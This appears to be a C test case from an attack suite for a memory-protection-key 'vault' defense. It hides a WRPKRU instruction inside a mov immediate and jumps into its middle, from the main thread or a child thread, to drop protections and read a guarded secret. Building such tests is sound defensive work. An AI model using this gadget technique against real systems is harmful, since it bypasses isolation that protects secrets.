/* A WRPKRU hidden inside another instruction's immediate, reached by
 * jumping into the middle of it: mov $0xc3ef010f, %eax is b8 0f 01 ef c3,
 * and from its second byte the CPU sees wrpkru; ret.
 * wrpkru_unaligned [thread]: from the main thread, or from a thread
 * started later (which must inherit the guard). */
#include "attack.h"

#include <pthread.h>

__asm__(".text\n"
        ".globl hidden_gadget_host\n"
        ".type hidden_gadget_host, @function\n"
        "hidden_gadget_host:\n"
        "    movl $0xc3ef010f, %eax\n"
        "    ret\n"
        ".size hidden_gadget_host, .-hidden_gadget_host\n");
void hidden_gadget_host(void);

static struct vault_cell *cell;

static void *attack(void *unused)
{
    void *gadget = (char *)hidden_gadget_host + 1;
    __asm__ volatile("xor %%eax, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n call *%0"
                     ::"r"(gadget) : "rax", "rcx", "rdx", "memory");
    return (void *)cell->secret;
}

static const volatile uint8_t *steal(void *in_thread)
{
    if (!in_thread)
        return attack(NULL);
    pthread_t t;
    void *p;
    pthread_create(&t, NULL, attack, NULL);
    pthread_join(t, &p);
    return p;
}

int main(int argc, char **argv)
{
    vault_open();
    cell = vault_address(VAULT_DATA);
    steal_in_child(steal, argc > 1 && strcmp(argv[1], "thread") == 0 ? (void *)1 : NULL);
}
